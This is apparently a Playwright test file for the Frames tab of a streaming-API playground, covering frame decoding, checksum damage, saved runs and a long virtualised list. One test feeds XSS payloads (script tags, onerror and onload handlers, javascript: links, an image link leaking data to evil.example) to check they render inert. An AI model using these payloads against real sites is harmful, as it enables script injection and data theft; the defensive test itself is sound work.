// The Frames tab: frames of both APIs, their bytes, a flipped bit, pasted streams, a run saved and played again.

import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";

import { violations } from "../harness/axe.mjs";
import { eventually, expectText } from "../harness/expect.mjs";
import { journey, open } from "../harness/journey.mjs";
import { longStream } from "../harness/long-stream.mjs";
import { answer, face, finished, runButton, stream } from "../harness/playground.mjs";

const tab = (page, name) => page.getByRole("tab", { name, exact: true }).click();
const frames = (page) => page.getByRole("region", { name: "Frames of the streams" });
const list = (page) => frames(page).getByRole("listbox", { name: "Frames" });
const bytes = (page) => frames(page).getByRole("region", { name: "Bytes of the frame" });
const decoded = (page) => frames(page).getByRole("region", { name: "Decoded frame" });

/** messageStart of a ConverseStream, 119 bytes. */
const HEX =
  "0000007700000052abb5d36e0d3a6d6573736167652d747970650700056576656e740b3a6576656e742d7479706507000c6d6573736167655374617274" +
  "0d3a636f6e74656e742d747970650700106170706c69636174696f6e2f6a736f6e7b22726f6c65223a2022617373697374616e74227dc12c0f38";

async function ran(page) {
  await open(page);
  await stream(page, true);
  await runButton(page).click();
  for (const api of ["Converse", "InvokeModel"]) await finished(page, api);
  await tab(page, "Frames");
  await list(page).waitFor();
}

journey("both streams are shown frame by frame, and a flipped bit is noticed", {}, async ({ page }) => {
  await ran(page);
  await expectText(list(page), /messageStart/);
  await list(page).getByRole("option").nth(2).click();
  await expectText(bytes(page), /Both checksums match/);
  await expectText(decoded(page), /The same in InvokeModel/);
  await bytes(page).getByRole("button", { name: "Flip a bit" }).click();
  await expectText(bytes(page), /A reader stops here, at the message CRC/);
  await bytes(page).getByRole("button", { name: "Restore the bit" }).click();
  await expectText(bytes(page), /Both checksums match/);
  await bytes(page).getByRole("spinbutton", { name: "Byte" }).fill("0");
  await bytes(page).getByRole("button", { name: "Flip a bit" }).click();
  await expectText(bytes(page), /A reader stops here, at the prelude CRC/);
  await frames(page).getByRole("radio", { name: /^InvokeModel/ }).check();
  await expectText(list(page), /chunk · message_start/);
  await list(page).getByRole("option").nth(2).click();
  await expectText(decoded(page), /characters of base64/);
  await expectText(decoded(page), /“p” is padding/);
  await list(page).press("End");
  await eventually("the last frame is selected", () => list(page).getByRole("option", { selected: true }).innerText(), (text) =>
    /message_stop/.test(text),
  );
  for (const scheme of ["light", "dark"]) {
    await page.emulateMedia({ colorScheme: scheme, reducedMotion: "reduce" });
    // Buttons change their colour over a moment, even with reduced motion.
    await page.evaluate(async () => {
      await new Promise((painted) => requestAnimationFrame(() => requestAnimationFrame(painted)));
      await Promise.all(document.getAnimations().map((change) => change.finished.catch(() => {})));
    });
    assert.deepEqual(await violations(page, `frames, ${scheme}`), []);
  }
});

journey("an empty tab offers the run it needs; then the bar says who sent the stream, in one line from 1024 px up", {}, async ({ page }) => {
  await open(page);
  await stream(page, false);
  await tab(page, "Frames");
  const picker = frames(page).getByRole("radiogroup", { name: "Stream of" });
  assert.equal(await picker.count(), 0, "no picker without a stream");
  await frames(page).getByRole("button", { name: "Run with Stream on" }).click();
  await list(page).waitFor();
  assert.ok(await page.getByRole("switch", { name: "Stream" }).isChecked());
  await expectText(frames(page), /SIMULATED/);
  const tops = async () => {
    const boxes = await Promise.all([picker, frames(page).getByRole("combobox", { name: "Replay speed" })].map((part) => part.boundingBox()));
    return boxes.map((box) => Math.round(box.y + box.height / 2));
  };
  for (const width of [1440, 1280, 1024]) {
    await page.setViewportSize({ width, height: 900 });
    await eventually(`the bar is one line at ${width} px`, tops, ([first, last]) => Math.abs(first - last) <= 2);
  }
});

journey("a pasted stream is taken apart, damaged or not", {}, async ({ page }) => {
  await open(page);
  await tab(page, "Frames");
  await frames(page).getByRole("button", { name: "Paste hex…" }).click();
  const field = frames(page).getByRole("textbox", { name: "Stream as hexadecimal text or base64" });
  await field.fill(HEX + HEX.replace("61737369", "61737368"));
  await frames(page).getByRole("button", { name: "Decode" }).click();
  await expectText(frames(page), /1 whole frame in 238 B, then damage at byte 119 \(message CRC\)/);
  await expectText(decoded(page), /assistant/);
  await list(page).getByRole("option").nth(1).click();
  await expectText(bytes(page), /does not match: the bytes give/);
});

journey("a saved run is replayed without a call, and says that it is a recording", {}, async ({ page }) => {
  await ran(page);
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    frames(page).getByRole("button", { name: "Save run" }).click(),
  ]);
  const text = await readFile(await download.path(), "utf8");
  assert.match(text, /"by": ?"SIMULATED"/);
  for (const secret of ["AWS4-HMAC-SHA256", "ASIAIOSFODNN7EXAMPLE", "outcrop-simulator-session", "wJalrXUtnFEMI"]) {
    assert.ok(!text.includes(secret), `${secret} is in the file`);
  }
  await page.reload();
  await page.locator("#skeleton").waitFor({ state: "detached" });
  await tab(page, "Frames");
  const file = { name: "run.outcrop.json", mimeType: "application/json", buffer: Buffer.from(text) };
  await frames(page).getByLabel("Open a recorded run").setInputFiles(file);
  await expectText(frames(page), /RECORDED A run of 2 calls/);
  await frames(page).getByRole("combobox", { name: "Replay speed" }).selectOption("instant");
  await frames(page).getByRole("button", { name: "Replay", exact: true }).click();
  await expectText(list(page), /messageStart/);
  await tab(page, "Response");
  for (const api of ["Converse", "InvokeModel"]) {
    await finished(page, api);
    await expectText(face(page, api, "response"), /SIMULATED[\s\S]*RECORDED/);
  }

  await page.reload();
  await page.locator("#skeleton").waitFor({ state: "detached" });
  await page.getByRole("button", { name: "Share…" }).click();
  await page.getByLabel("Open files…").setInputFiles(file);
  await page.getByText("It includes a recorded run, shown here").waitFor();
  for (const api of ["Converse", "InvokeModel"]) {
    await finished(page, api);
    await expectText(face(page, api, "response"), /SIMULATED[\s\S]*RECORDED/);
  }
});

/** An answer of a stranger's choosing, as a recorded run: no model would have to be persuaded. */
function recordingOf(markdown) {
  const body = { output: { message: { role: "assistant", content: [{ text: markdown }] } }, stopReason: "end_turn", usage: {} };
  const call = {
    api: "converse", operation: "Converse", model: "amazon.nova-lite-v1:0",
    request: { path: "/model/x/converse", headers: [], body: "{}" },
    status: 200, headers: [["content-type", "application/json"]],
    pieces: [[1, Buffer.from(JSON.stringify(body)).toString("base64")]], endedMs: 1, ended: "complete",
  };
  const run = { version: 1, by: "AWS", recordedAt: "2026-11-22T12:00:00Z", calls: [call] };
  return Buffer.from(JSON.stringify({ schemaVersion: 1, messages: ["Hi"], runs: [run] }));
}

journey("hostile Markdown in an answer is inert", {}, async ({ page }) => {
  await open(page);
  page.on("dialog", () => assert.fail("a dialog opened"));
  await tab(page, "Frames");
  const hostile = [
    "# Safe <script>alert(1)</script>",
    "<img src=x onerror=alert(1)> <iframe src=\"https://evil.example/\"></iframe>",
    "![leak](https://evil.example/?q=secret) [click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>)",
    "<a href=\"javascript:alert(1)\">x</a> <svg onload=alert(1)> [fine](https://example.com/)",
  ].join("\n\n");
  await frames(page).getByLabel("Open a recorded run").setInputFiles({
    name: "run.outcrop.json", mimeType: "application/json", buffer: recordingOf(hostile),
  });
  await frames(page).getByRole("button", { name: "Replay", exact: true }).click();
  await tab(page, "Response");
  await expectText(answer(page, "Converse"), /onerror=alert/);
  const made = await answer(page, "Converse").evaluate((log) => ({
    elements: log.querySelectorAll("script, img, iframe, svg[onload], object, embed, form").length,
    handlers: [...log.querySelectorAll("*")].filter((el) => [...el.attributes].some((a) => /^on/i.test(a.name))).length,
    links: [...log.querySelectorAll("a")].map((link) => link.href),
  }));
  assert.deepEqual([made.elements, made.handlers], [0, 0]);
  assert.ok(made.links.every((href) => /^(https|mailto):/.test(href)), made.links.join(" "));
});

journey("ten thousand frames are all reachable, and only those in sight are in the page", {}, async ({ page }) => {
  await open(page);
  await tab(page, "Frames");
  const file = (name, buffer) => ({ name, mimeType: "application/octet-stream", buffer });
  const chooser = frames(page).getByLabel("Open a saved stream");
  await chooser.setInputFiles(file("long.bin", longStream(10_000)));
  await expectText(frames(page), /long\.bin: 10,000 whole frames/);
  const options = list(page).getByRole("option");
  const bounded = async () => {
    const count = await options.count();
    assert.ok(count > 5 && count < 120, `${count} rows in the page`);
  };
  const selected = (pattern) =>
    eventually(`the selected frame is ${pattern}`, () => list(page).getByRole("option", { selected: true }).allInnerTexts(), (texts) =>
      texts.length === 1 && pattern.test(texts[0]),
    );
  await list(page).focus();
  await selected(/^1\s+messageStart/);
  await bounded();
  await page.keyboard.press("End");
  await selected(/^10000\s+metadata/);
  await bounded();
  await expectText(bytes(page), /Frame 10000, byte by byte/);
  await page.keyboard.press("PageUp");
  await selected(/contentBlockDelta/);
  assert.equal(await options.last().getAttribute("aria-setsize"), "10000");
  // Scrolled to the middle without a key: the rows there come, and can be chosen.
  await list(page).evaluate((element) => element.scrollTo(0, element.scrollHeight / 2));
  const middle = list(page).getByRole("option", { name: /word 4998 / });
  await middle.click();
  await expectText(decoded(page), /word 4998 /);
  await bounded();
  // Another file of the same number of frames is another stream.
  const other = longStream(10_000);
  other.writeUInt8(other[20] ^ 1, 20);
  await chooser.setInputFiles(file("damaged.bin", other));
  await expectText(frames(page), /damaged\.bin: 0 whole frames.*then damage at byte 0/s);
});
